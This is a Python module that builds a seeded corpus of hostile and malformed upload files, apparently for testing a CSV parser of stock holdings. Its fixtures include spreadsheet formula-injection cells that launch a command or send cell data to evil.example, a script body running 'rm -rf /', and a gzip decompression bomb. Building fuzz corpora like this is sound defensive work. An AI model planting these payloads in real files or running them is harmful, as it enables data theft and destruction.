"""A thousand hostile files, always the same ones: what people upload by mistake, and what attackers would."""

from __future__ import annotations

import gzip
import io
import random
import zipfile
from collections.abc import Callable, Iterator
from itertools import cycle, islice

__all__ = ["HUGE", "SMALL", "hostile_files"]

_HEADER = b"Symbol,Name,Asset Type,Dollar Amount\n"
_ROW = b"AAPL,Apple,stock,1000.00\n"
_TABS = "AAPL\t1,00\n"
_TEN_MEGABYTES = 10 * 1024 * 1024

Kind = Callable[[random.Random], bytes]


def _rows(rng: random.Random, count: int) -> bytes:
    numbers = ((n, n, rng.randrange(9999), n % 100) for n in range(count))
    return b"".join(b"S%d,Name %d,stock,%d.%02d\n" % row for row in numbers)


def _splice(rng: random.Random, content: bytes, junk: bytes) -> bytes:
    place = rng.randrange(len(content) + 1)
    return content[:place] + junk + content[place:]


def random_bytes(rng: random.Random) -> bytes:
    return rng.randbytes(rng.randrange(1, 5000))


def random_latin(rng: random.Random) -> bytes:
    return bytes(rng.choices(range(32, 256), k=rng.randrange(1, 5000)))


def random_delimiters(rng: random.Random) -> bytes:
    return bytes(rng.choices(b",;\t|\"'\r\n =+-@#.$%()0123456789AZaz", k=rng.randrange(1, 4000)))


def nul_bytes(rng: random.Random) -> bytes:
    return _splice(rng, _HEADER + _rows(rng, 5), b"\0" * rng.randrange(1, 50))


def control_characters(rng: random.Random) -> bytes:
    return _splice(rng, _HEADER + _rows(rng, 5), bytes(rng.choices([*range(1, 32), 127], k=20)))


def other_formats(rng: random.Random) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as entries:
        entries.writestr(rng.choice(["xl/workbook.xml", "positions.csv"]), _HEADER + _ROW)
    table = "".join(f"<tr><td>{n}</td></tr>" for n in range(5))
    starts = (
        archive.getvalue(),
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
        f"<!DOCTYPE html><html><body><table>{table}</table></body></html>".encode(),
        b"<?xml version='1.0'?><Workbook><Row><Cell>AAPL</Cell></Row></Workbook>",
        b'{"assets": [{"symbol": "AAPL", "dollarAmount": 1}]}',
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        b"\x89PNG\r\n\x1a\n" + rng.randbytes(200),
        b"PAR1" + rng.randbytes(200) + b"PAR1",
        b"SQLite format 3\0" + bytes(100),
        b"{\\rtf1\\ansi Symbol, Amount}",
        b"MZ" + rng.randbytes(300),
        b"#!/bin/sh\nrm -rf /\n",
        gzip.compress(_HEADER + _ROW, mtime=0),
    )
    return rng.choice(starts)


def unbalanced_quotes(rng: random.Random) -> bytes:
    return _splice(rng, _HEADER + _rows(rng, rng.randrange(1, 300)), b'"' * rng.randrange(1, 4))


def deep_quotes(rng: random.Random) -> bytes:
    cell = "AAPL"
    for _ in range(rng.randrange(1, 12)):
        cell = '"' + cell.replace('"', '""') + '"'
    return _HEADER + cell.encode() + b",Apple,stock,1\n"


def quoted_newlines(rng: random.Random) -> bytes:
    inside = rng.choice([b"\n", b"\r\n", b"\r"]) * rng.randrange(1, 500)
    return _HEADER + b'AAPL,"Apple' + inside + b'Inc",stock,1.00\n'


def formulas(rng: random.Random) -> bytes:
    calls = (
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1)',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "=1e999",
    )
    cells = ['"' + rng.choice(calls).replace('"', '""') + '"' for _ in range(4)]
    header = _HEADER if rng.random() < 0.7 else ",".join(cells).encode() + b"\n"
    return header + ",".join(cells).encode() + b"\n" + _ROW


def impossible_numbers(rng: random.Random) -> bytes:
    digits = "".join(rng.choices("0123456789", k=400))
    numbers = (
        "1e999",
        "-1e999",
        "1e-999",
        "1E+1000000000",
        "NaN",
        "-NaN",
        "sNaN123",
        "Infinity",
        "-inf",
        digits,
        f"0.{digits}",
        f"-{digits}.{digits}",
        "1,2,3,4,5",
        "1.2.3.4",
        "1,23,456.78",
        "--5",
        "((5))",
        "5-",
        "0x10",
        "1_000",
        "\u0661\u0662\u0663",
        "\u4e00\u5343",
        "\u00bd",
        "1\u00a0000,00",
        "%",
        "$",
        "-",
        ".",
        ",",
        "1e",
        "+",
        "\u221e",
        "12.5%%",
    )
    rows = "".join(f'S{n},Name,stock,"{rng.choice(numbers)}"\n' for n in range(rng.randrange(1, 12)))
    return _HEADER + rows.encode()


def invisible_characters(rng: random.Random) -> bytes:
    marks = "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202e\u2060\u2066\u2069\ufeff\u00ad\u061c\u180e\u2028"
    text = list((_HEADER + _rows(rng, 4)).decode())
    for _ in range(rng.randrange(1, 60)):
        text.insert(rng.randrange(len(text)), rng.choice(marks))
    return "".join(text).encode()


def mixed_line_ends(rng: random.Random) -> bytes:
    ends = [
        b"\n",
        b"\r\n",
        b"\r",
        b"\n\r",
        b"\r\r\n",
        b"\x0b",
        b"\x0c",
        b"\x1c",
        b"\xc2\x85",
        b"\xe2\x80\xa8",
    ]
    lines = (_HEADER + _rows(rng, 10)).splitlines()
    return b"".join(line + rng.choice(ends) for line in lines)


def wrong_encodings(rng: random.Random) -> bytes:
    text = "Symbol;Bezeichnung;Betrag\r\nSAP;Böse Überraschung €;1.234,50\r\nÅÄÖ;naïve;2.000,00\r\n"
    encodings = (
        "utf-16",
        "utf-16-le",
        "utf-16-be",
        "utf-32",
        "utf-32-be",
        "utf-7",
        "utf-8-sig",
        "cp1252",
        "latin-1",
        "cp037",
        "mac_roman",
        "iso8859_15",
    )
    content = text.encode(rng.choice(encodings), errors="replace")
    return content[: rng.randrange(1, len(content) + 1)]


def truncated_utf16(rng: random.Random) -> bytes:
    content = "Symbol\tValue\n\U0001f600A\t1\n".encode("utf-16")
    broken = content + rng.choice([b"\x00", b"\xd8\x3d", b"\x00\xd8", b"\xff", b"\xdc\x00\xd8\x00"])
    return broken[: rng.randrange(2, len(broken) + 1)]


def mojibake(rng: random.Random) -> bytes:
    text = "Symbol,Name,Dollar Amount\nMC.PA,Moët Hennessy,1000\nÖBB,Übung €,500\n"
    for _ in range(rng.randrange(1, 4)):
        text = text.encode().decode("latin-1")
    return text.encode()


def broken_utf8(rng: random.Random) -> bytes:
    parts = [
        b"\xc0\xaf",
        b"\xed\xa0\x80",
        b"\xf5\x80\x80\x80",
        b"\xe2\x82",
        b"\xff\xfe",
        b"\x80",
        b"\xf0\x9f\x98",
    ]
    return _splice(rng, _HEADER + _rows(rng, 4), rng.choice(parts))


def ragged_rows(rng: random.Random) -> bytes:
    rows = [b",".join([b"x"] * rng.randrange(40)) for _ in range(rng.randrange(1, 200))]
    return _HEADER + b"\n".join(rows)


def hostile_headers(rng: random.Random) -> bytes:
    names = [
        "Symbol",
        "symbol",
        "SYMBOL ",
        "Ticker",
        "",
        " ",
        "=1+1",
        "a" * 3000,
        "\u202eeulaV",
        "Dollar Amount",
        "#",
    ]
    header = ",".join('"' + rng.choice(names) + '"' for _ in range(rng.randrange(1, 60)))
    return header.encode() + b"\n" + _ROW * rng.randrange(5)


def only_symbols(rng: random.Random) -> bytes:
    return bytes(rng.choices(b" \t\r\n,;|\"'", k=rng.randrange(0, 3000)))


def long_cells(rng: random.Random) -> bytes:
    return (
        _HEADER
        + b"A" * rng.randrange(1000, 300_000)
        + b","
        + b"9" * rng.randrange(1000, 300_000)
        + b",stock,1\n"
    )


def repeated_headers(rng: random.Random) -> bytes:
    return _HEADER * rng.randrange(2, 500) + _ROW + b"Total,,,1000.00\n" * rng.randrange(500)


def shuffled_bytes(rng: random.Random) -> bytes:
    content = bytearray(_HEADER + _rows(rng, 30))
    for _ in range(rng.randrange(1, 40)):
        content[rng.randrange(len(content))] = rng.randrange(256)
    return bytes(content)


SMALL: tuple[Kind, ...] = (
    random_bytes,
    random_latin,
    random_delimiters,
    nul_bytes,
    control_characters,
    other_formats,
    unbalanced_quotes,
    deep_quotes,
    quoted_newlines,
    formulas,
    impossible_numbers,
    invisible_characters,
    mixed_line_ends,
    wrong_encodings,
    truncated_utf16,
    mojibake,
    broken_utf8,
    ragged_rows,
    hostile_headers,
    only_symbols,
    long_cells,
    repeated_headers,
    shuffled_bytes,
)


def _filled(start: bytes, part: bytes, end: bytes = b"") -> bytes:
    """Return as many parts as make ten megabytes."""
    return start + part * ((_TEN_MEGABYTES - len(start) - len(end)) // len(part)) + end


HUGE: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "one line of 10 MB": lambda: _filled(b"", b"a"),
    "one line of 10 MB of digits": lambda: _filled(b"", b"9"),
    "a header, then one line of 10 MB": lambda: _filled(_HEADER, b"a"),
    "a header, then one number of 10 MB": lambda: _filled(_HEADER + b"AAPL,Apple,stock,", b"9", b"\n"),
    "a header, then one number of 10 MB of separators": lambda: _filled(
        _HEADER + b'AAPL,Apple,stock,"1', b",000", b'"\n'
    ),
    "one quoted cell of 10 MB": lambda: _filled(_HEADER + b'"', b"a\n", b'",Apple,stock,1\n'),
    "one cell of 10 MB of doubled quotes": lambda: _filled(_HEADER + b'"', b'""', b'",Apple,stock,1\n'),
    "one quote that never closes": lambda: _filled(_HEADER + b'"', b"AAPL,Apple,stock,1.00\n"),
    "10 MB of quotes": lambda: _filled(b"", b'"'),
    "10,000 columns": lambda: (
        b",".join(b"Column %d" % n for n in range(10_000)) + b"\n" + b"1," * 9_999 + b"1\n"
    ),
    "10,000 columns, 200 rows": lambda: b",".join([b"Symbol"] * 10_000) + (b"\n" + b"1," * 9_999) * 200,
    "1,000,000 commas": lambda: b"," * 1_000_000,
    "10 MB of commas": lambda: _filled(b"", b","),
    "a header, then 10 MB of commas": lambda: _filled(_HEADER, b","),
    "10 MB of semicolons, tabs and bars": lambda: _filled(b"", b";\t|"),
    "1,000,000 columns in one cell each": lambda: _filled(b"Symbol,", b"a,"),
    "200,000 empty lines": lambda: b"\n" * 200_000,
    "10 MB of empty lines": lambda: _filled(b"", b"\n"),
    "10 MB of carriage returns": lambda: _filled(_HEADER, b"\r"),
    "10 MB of spaces": lambda: _filled(b"", b" "),
    "empty lines, then a table": lambda: b"\n" * 200_000 + _HEADER + _ROW,
    "a preamble of 200,000 lines": lambda: b"Account statement of nobody\n" * 200_000 + _HEADER + _ROW,
    "200,000 rows with an error each": lambda: _filled(_HEADER, b"A_B,Name,spaceship,12.3.4\n"),
    "200,000 rows of one symbol": lambda: _filled(_HEADER, b"AAPL,Apple,stock,1.00\n"),
    "200,000 formula rows": lambda: _filled(_HEADER, b"=1+1,@SUM(1),+1,-2+3\n"),
    "200,000 headers": lambda: _filled(b"", _HEADER),
    "5,000,000 rows of one cell": lambda: _filled(b"Symbol\n", b"A\n"),
    "rows as wide as they are many": lambda: _filled(_HEADER, b"," * 3_000 + b"\n"),
    "10 MB of NUL": lambda: bytes(_TEN_MEGABYTES),
    "text, then 10 MB of NUL": lambda: _filled(_HEADER + _ROW, b"\0"),
    "10 MB of UTF-16": lambda: b"\xff\xfe" + _TABS.encode("utf-16-le") * 500_000,
    "10 MB of UTF-16 without a mark": lambda: ("Symbol\tValue\n" + "AAPL\t1,00\n" * 500_000).encode(
        "utf-16-be"
    ),
    "10 MB of broken UTF-8": lambda: _filled(_HEADER, b"\xc3("),
    "10 MB of emoji": lambda: _filled(_HEADER, "\U0001f4b0".encode()),
    "10 MB of combining marks": lambda: _filled(_HEADER + b"A", "\u0301".encode()),
    "ambiguous numbers to the end": lambda: _filled(_HEADER, b'AAPL,Apple,stock,"1,234"\n'),
    "one byte too many": lambda: b"a" * (_TEN_MEGABYTES + 1),
    "a 42 MB zip in its disguise": lambda: gzip.compress(bytes(42 * 1024 * 1024), mtime=0),
}
"""The big ones by name; each is made when it is its turn, for together they fill the memory they may not."""


def hostile_files(count: int, seed: int = 1) -> Iterator[tuple[str, bytes]]:
    """Make `count` files: every huge one, then small ones of every kind in turn.

    Args:
        count: How many.
        seed: The same seed makes the same files.

    Yields:
        What it is, and its content.
    """
    for name, make in islice(HUGE.items(), count):
        yield name, make()
    rng = random.Random(seed)
    for number, kind in enumerate(islice(cycle(SMALL), max(0, count - len(HUGE)))):
        yield f"{kind.__name__} {number}", kind(rng)
